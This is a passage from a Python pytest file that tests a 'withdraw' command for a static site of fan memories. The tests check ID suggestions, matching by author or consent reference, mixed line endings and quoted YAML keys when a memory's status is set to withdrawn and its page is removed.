    assert f"No memory matches '{ident}'" in result.stderr
    assert "Nothing was changed. Close to it (check which, if any, is the fan's; then run this withdraw again " \
           "with the ID exactly as written there):" in result.stderr
    assert f"  {suggested}" in result.stderr
    assert "zoe-2" not in result.stderr
    assert {p.name: p.read_bytes() for p in (site.root / "content/memories").iterdir()} == sources
    assert (site.public / "memories/ete-86/index.html").exists() and (site.public / "memories/b/index.html").exists()


def test_close_ids_are_suggested_only_under_the_key_by_names(make_site) -> None:
    site = make_site({"content/memories/a.md": memory("A").replace("fan-1", "Fan-7")})
    by_author = site.run("withdraw", "fan-7", "--by", "author.id", "--site", str(site.root))
    assert by_author.exit_code == 1 and "content/memories/a.md:1: author.id 'Fan-7'" in by_author.stderr
    by_ref = site.run("withdraw", "fan-7", "--by", "consent.ref", "--site", str(site.root))
    assert by_ref.exit_code == 1 and "Close to it" not in by_ref.stderr


def test_withdraw_edits_a_file_whose_lines_end_in_several_ways(make_site) -> None:
    # Pasted together from a Windows editor and a Unix one: the build reads it, so withdraw
    # edits it too, with the line ending most of its lines have.
    text = memory("A", extra="notes: à relire\n").replace("\n", "\r\n").replace("date: 1986-07\r\n", "date: 1986-07\n")
    site = make_site({"content/memories/a.md": text.encode(), "content/memories/b.md": memory("B")})
    assert site.build().exit_code == 0
    result = site.run("withdraw", "a", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    assert (site.root / "content/memories/a.md").read_bytes().decode() == text.replace(
        "date: 1986-07\n", "date: 1986-07\r\n").replace("title: A\r\n", "title: A\r\nwithdrawn: 2026-11-20\r\n").replace(
        "status: approved", "status: withdrawn").replace("notes: à relire\r\n", "")
    assert not (site.public / "memories/a").exists()
    assert (site.public / "memories/b/index.html").exists()


def test_withdraw_edits_quoted_keys(make_site) -> None:
    # JSON-minded editors quote keys; YAML reads "status" as status.
    text = memory("A", extra="'notes': à relire\n").replace("status: approved", '"status": "approved"')
    site = make_site({"content/memories/a.md": text, "content/memories/b.md": memory("B")})
    assert site.build().exit_code == 0
    assert (site.public / "memories/a/index.html").exists()
    result = site.run("withdraw", "a", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    assert (site.root / "content/memories/a.md").read_text("utf-8") == text.replace(
        "title: A\n", "title: A\nwithdrawn: 2026-11-20\n").replace('"status": "approved"', "status: withdrawn").replace(
        "'notes': à relire\n", "")
    assert not (site.public / "memories/a").exists()
